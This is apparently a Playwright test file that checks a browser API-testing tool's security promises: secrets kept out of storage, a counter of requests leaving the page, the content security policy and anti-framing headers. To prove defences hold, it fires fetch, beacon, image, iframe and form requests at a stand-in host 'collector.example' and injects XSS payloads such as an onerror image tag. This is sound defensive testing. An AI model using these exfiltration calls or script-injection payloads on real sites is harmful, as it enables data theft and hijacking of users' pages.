/** What docs/security.md promises, from outside: the tests that it names. */
import type { Page } from '@playwright/test';

import { expect, test, wholeBrowser } from './fixtures.ts';
import { goTo } from './screen.ts';

// A refusal is an answer with a status of 400 and more, which Chromium writes to the console.
test.use(wholeBrowser);
test.use({ expectedErrors: [/server responded with a status of 401/] });

const SECRET = 'a-secret-that-must-not-stay';
const departures = (page: Page) => page.getByRole('status', { name: 'Requests that left this page' });
const secretToken = (page: Page) => page.getByRole('textbox', { name: 'SecretToken' });

/** Whatever this origin keeps on disk, as one text. */
async function everythingStored(page: Page): Promise<string> {
  return page.evaluate(async () => {
    const found: string[] = [
      JSON.stringify({ ...localStorage }),
      JSON.stringify({ ...sessionStorage }),
      document.cookie,
    ];
    for (const { name = '' } of await indexedDB.databases()) {
      const database = await new Promise<IDBDatabase>((resolve, reject) => {
        const opening = indexedDB.open(name);
        opening.addEventListener('success', () => resolve(opening.result));
        opening.addEventListener('error', () => reject(opening.error ?? new Error(name)));
      });
      for (const store of database.objectStoreNames) {
        const records = database.transaction(store).objectStore(store).getAll();
        await new Promise((resolve) => records.addEventListener('success', resolve));
        found.push(JSON.stringify(records.result));
      }
      database.close();
    }
    for (const name of await caches.keys())
      for (const { url } of await (await caches.open(name)).keys()) found.push(url);
    return found.join('\n');
  });
}

test('what was typed is in no storage, address, history entry or title, also after it was sent', async ({ page }) => {
  const titles: string[] = [];
  await page.goto('/#/session-jwt/login');
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  await page.getByRole('button', { name: 'Use sandbox credentials' }).click();
  await expect(page.getByRole('textbox', { name: 'password', exact: true })).not.toHaveValue('');
  await page.getByRole('textbox', { name: 'password', exact: true }).fill(SECRET);
  await page.getByRole('button', { name: 'Send to sandbox' }).click();
  await expect(page.getByRole('status', { name: 'Sandbox answer' })).toContainText('HTTP 401');
  titles.push(await page.title(), page.url());
  await page.getByRole('link', { name: /^Open exchange/ }).click();
  await expect(page.getByRole('region', { name: 'Response' })).toBeVisible();
  titles.push(await page.title(), page.url(), await page.evaluate(() => JSON.stringify(history.state)));
  const stored = await everythingStored(page);
  // The sandbox did keep its own memory there.
  expect(stored).toMatch(/\d/);
  for (const text of [stored, ...titles]) expect(text).not.toContain(SECRET);
});

test('what was sent is gone with the last page, whether closed or loaded anew', async ({ page, context }) => {
  const journal = (where: Page) =>
    where.evaluate(async () => (await fetch(new URL('sandbox/admin/journal', document.baseURI))).text());
  await page.goto('/#/session-jwt/login');
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  const send = async () => {
    await page.getByRole('button', { name: 'Use sandbox credentials' }).click();
    await expect(page.getByRole('textbox', { name: 'password', exact: true })).not.toHaveValue('');
    await page.getByRole('textbox', { name: 'password', exact: true }).fill(SECRET);
    await page.getByRole('button', { name: 'Send to sandbox' }).click();
    await expect(page.getByRole('status', { name: 'Sandbox answer' })).toContainText('HTTP 401');
  };
  await send();
  expect(await journal(page)).toContain(SECRET);
  const other = await context.newPage();
  await other.goto('/#/exchanges');
  await expect(other.getByRole('navigation', { name: 'Tools' })).toBeVisible();
  expect(await journal(other), 'pages at once share the sandbox').toContain(SECRET);
  await other.close();

  await page.reload();
  await expect(page.getByRole('textbox', { name: 'password', exact: true })).toHaveValue('');
  await expect.poll(() => journal(page), 'loaded anew').not.toContain(SECRET);
  await send();
  expect(await journal(page)).toContain(SECRET);
  await page.close();
  const next = await context.newPage();
  await next.goto('/#/exchanges');
  await expect(next.getByRole('navigation', { name: 'Tools' })).toBeVisible();
  expect(await journal(next), 'closed').not.toContain(SECRET);
});

test.describe('a sandbox that is a page of its own', () => {
  // The request is a wrong one on purpose, and the answer has no icon.
  test.use({ expectedErrors: [/status of 40[45]/] });

  test('whoever types its address after the last page finds nothing of what was sent', async ({ page, context }) => {
    const address = new URL('sandbox/admin/journal', await startOf(page)).href;
    await page.evaluate((url) => fetch(`${url.replace('admin/journal', 'paynet/balance')}?left`), address);
    const journal = async () => {
      const other = await context.newPage();
      await other.goto(address);
      const text = await other.textContent('body');
      await other.close();
      return text;
    };
    expect(await journal(), 'a page is still there').toContain('?left');
    await page.close();
    expect(await journal()).toBe('{"exchanges":[]}');
  });
});

/** Opens the start page, and waits until the worker has it; gives its address. */
async function startOf(page: Page): Promise<string> {
  await page.goto('/');
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  return page.evaluate(() => document.baseURI);
}

test('Clear empties the fields, and once it cannot be undone nothing of them is left', async ({ page }) => {
  await page.clock.install();
  const undo = page.getByRole('button', { name: 'Undo' });
  const clear = async () => {
    await secretToken(page).fill(SECRET);
    await page.getByRole('button', { name: 'Clear', exact: true }).click();
    await expect(secretToken(page)).toHaveValue('');
    await expect(undo).toBeVisible();
  };
  await page.goto('/#/aeterna/request');
  await clear();
  await page.clock.fastForward(10_000);
  await expect(undo).toHaveCount(0);
  await clear();
  // Going elsewhere ends the chance to undo, too.
  await page.goto('/#/aeterna/webhook');
  // The panel before has fields of its names.
  await expect(page.getByRole('textbox', { name: 'Email', exact: true })).toHaveCount(0);
  await expect(secretToken(page)).toHaveValue('');
  await page.goto('/#/aeterna/request');
  await expect(page.getByRole('textbox', { name: 'Email', exact: true })).toBeVisible();
  // At once: in ten seconds it would be gone anyway.
  expect(await undo.count()).toBe(0);
  await expect(secretToken(page)).toHaveValue('');
});

test('a page that is left forgets what was typed, even when the browser keeps it', async ({ page }) => {
  const textbox = (name: string) => page.getByRole('textbox', { name, exact: true });
  const typed = [
    ['/#/', 'Paste a request'],
    ['/#/paysera/certificate', 'CN'],
    ['/#/doctor', 'SecretToken'],
    ['/#/aeterna/request', 'SecretToken'],
  ] as const;
  for (const [place, name] of typed) {
    await page.goto(place);
    if (place === '/#/doctor') await page.getByRole('combobox', { name: 'Scheme' }).selectOption('aeterna');
    await textbox(name).fill(SECRET);
    await expect(textbox(name)).toHaveValue(SECRET);
  }
  // What the browser does when it puts the page aside for the Back button.
  await page.evaluate(() => window.dispatchEvent(new PageTransitionEvent('pagehide', { persisted: true })));
  for (const [place, name] of typed.toReversed()) {
    await page.goto(place);
    if (place === '/#/doctor') await page.getByRole('combobox', { name: 'Scheme' }).selectOption('aeterna');
    await expect(textbox(name), place).toHaveValue('');
  }
  await page.goto('/#/aeterna/request');
  await secretToken(page).fill(SECRET);
  const loaded = page.waitForEvent('load', { timeout: 20_000 });
  await page.evaluate(() => window.dispatchEvent(new PageTransitionEvent('pageshow', { persisted: true })));
  await loaded;
  await expect(secretToken(page)).toHaveValue('');
});

test('the counter of requests that left the page stays at none through a whole visit', async ({ page }) => {
  for (const path of ['', 'paynet/auth', 'paysera/mac?tab=learn', 'doctor', 'flows/session-jwt/expiry-and-refresh']) {
    await goTo(page, `/#/${path}`);
    await expect(departures(page)).toHaveText('0 requests to other sites');
  }
});

test('the counter is on the smallest screen, too', async ({ page }) => {
  await page.setViewportSize({ width: 360, height: 740 });
  await page.goto('/');
  await expect(departures(page)).toHaveText('0 requests to other sites');
  await expect(departures(page)).toBeInViewport();
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.body.clientWidth);
  expect(overflow).toBeLessThanOrEqual(0);
});

test.describe('what tries to leave', () => {
  test.use({ expectedErrors: [/violat|policy|Content Security Policy|request to another origin|Failed to load/i] });

  test('is stopped by the policy, and the counter says so', async ({ page }) => {
    await page.goto('/');
    await expect(departures(page)).toHaveText('0 requests to other sites');
    const reached: string[] = [];
    await page.route('https://collector.example/**', (route) => {
      reached.push(route.request().url());
      return route.abort();
    });
    await page.evaluate(() => fetch('https://collector.example/?secret').catch(() => {}));
    await expect(departures(page)).toHaveText('0 requests to other sites; 1 request stopped');
    await page.evaluate(() => {
      new Image().src = 'https://collector.example/pixel.png';
      navigator.sendBeacon('https://collector.example/beacon', 'x');
    });
    await expect(departures(page)).toHaveText('0 requests to other sites; 3 requests stopped');
    // Resource Timing has an entry with a duration of a frame that was stopped.
    await page.evaluate(() => {
      const frame = document.createElement('iframe');
      frame.src = 'https://collector.example/frame?x=1';
      document.body.append(frame);
    });
    await expect(departures(page)).toHaveText('0 requests to other sites; 4 requests stopped');
    await page.waitForFunction(() => performance.getEntriesByName('https://collector.example/frame?x=1').length > 0);
    await expect(departures(page)).toHaveText('0 requests to other sites; 4 requests stopped');
    // Last, because Playwright waits for the page that a form leads to.
    const stopped = await page.evaluate(
      () =>
        new Promise((resolve) => {
          document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective));
          setTimeout(resolve, 5000, 'nothing');
          const form = document.createElement('form');
          form.action = 'https://collector.example/form';
          document.body.append(form);
          form.submit();
        }),
    );
    expect(stopped).toBe('form-action');
    expect(reached).toEqual([]);
  });
});

test.describe('without the policy', () => {
  test.use({ bypassCSP: true, expectedErrors: [/request to another origin|Failed to load|policy/] });

  test('a request that really leaves is counted: the counter can show more than none', async ({ page, baseURL }) => {
    await page.goto('/');
    // This very server, under a name that is another origin.
    const other = (baseURL ?? '').replace('127.0.0.1', 'localhost');
    await page.evaluate((url) => fetch(url, { mode: 'no-cors' }), `${other}/favicon.svg`);
    await expect(departures(page)).toHaveText('1 request to another site');
  });
});

test.describe('the content policy', () => {
  test.use({ expectedErrors: [/violat|policy|Content Security Policy|TrustedHTML|TrustedScript/i] });

  test('is in the header and in the page, and allows no inline script or style element', async ({ page }) => {
    const response = await page.goto('/');
    const header = response?.headers()['content-security-policy'] ?? '';
    const meta = (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')) ?? '';
    for (const policy of [header, meta]) {
      expect(policy).toContain("default-src 'none'");
      expect(policy).toContain("require-trusted-types-for 'script'");
      expect(policy).toContain("connect-src 'self'");
      const inline = policy.split('; ').filter((directive) => directive.includes("'unsafe-"));
      // Monaco's style attributes, and nothing else.
      expect(inline).toEqual(["style-src-attr 'unsafe-inline'"]);
    }
    expect(header).toContain("frame-ancestors 'none'");
  });

  test('stops markup and script that get into the page', async ({ page }) => {
    await page.goto('/');
    const done = await page.evaluate(() => {
      const outcome: string[] = [];
      try {
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.pwned = 1">');
        outcome.push('markup');
      } catch {
        // As it should be.
      }
      const script = document.createElement('script');
      try {
        script.textContent = 'window.pwned = 1';
        document.body.append(script);
      } catch {
        // As it should be.
      }
      return outcome;
    });
    expect(done).toEqual([]);
    await page.waitForTimeout(300);
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
  });
});

test('a pasted token with markup in it is shown as text', async ({ page }) => {
  const part = (json: object) => Buffer.from(JSON.stringify(json)).toString('base64url');
  const evil = '<svg/onload=window.pwned=1>';
  await page.goto('/#/session-jwt/token');
  await page
    .getByRole('textbox', { name: 'accessToken', exact: true })
    .fill(`${part({ alg: 'RS256', typ: evil })}.${part({ email: evil, exp: 1 })}.AAAA`);
  await expect(page.getByRole('main')).toContainText(evil);
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
});

test('a key or token that looks live is warned about where it was put, and not repeated', async ({ page }) => {
  await page.goto('/#/aeterna/request');
  const live = ['sk', 'live', '51H8xYzAbCdEfGh'].join('_');
  await secretToken(page).fill(live);
  const warning = page.getByText(/what looks like a live Stripe key/).first();
  await expect(warning).toBeVisible();
  await expect(warning).not.toContainText(live);
  await secretToken(page).fill('test-secret-without-meaning');
  await expect(warning).toHaveCount(0);
  const part = (json: object) => Buffer.from(JSON.stringify(json)).toString('base64url');
  const token = (exp: number) => `${part({ alg: 'RS256' })}.${part({ exp })}.c2ln`;
  await page.goto('/#/session-jwt/token');
  const field = page.getByRole('textbox', { name: 'accessToken', exact: true });
  await field.fill(token(4_102_444_800));
  await expect(page.getByText(/a token that is valid until 2100-01-01T00:00:00Z/).first()).toBeVisible();
  await field.fill(token(1));
  await expect(page.getByText(/a token that is valid until/)).toHaveCount(0);
});

test('the page cannot be framed, and its opener gets no hold of it', async ({ page }) => {
  const headers = (await page.goto('/'))?.headers() ?? {};
  expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
  expect(headers['cross-origin-opener-policy']).toBe('same-origin');
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('no-referrer');
});
